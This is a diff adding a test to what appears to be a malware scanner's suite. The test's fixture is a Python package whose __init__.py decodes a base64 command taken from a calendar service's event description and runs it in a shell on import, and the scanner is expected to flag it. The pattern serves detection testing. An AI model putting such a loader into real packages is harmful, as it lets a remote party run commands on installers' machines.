@@ -104,3 +104,15 @@ test('a decoded line that the source hands to a shell is hidden', async () => {
 
   expect(await inspect('hidden-command', file)).toContainEqual(expect.objectContaining({ class: 'malware' }));
 });
+
+test('a command that a decoder makes of what a service answers is hidden, whoever the service is', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, subprocess',
+      'from calendar_of_others import events',
+      "subprocess.run(base64.b64decode(events('x')[0]['description']).decode(), shell=True)",
+    ),
+  });
+
+  expect(await inspect('hidden-command', file)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
+});
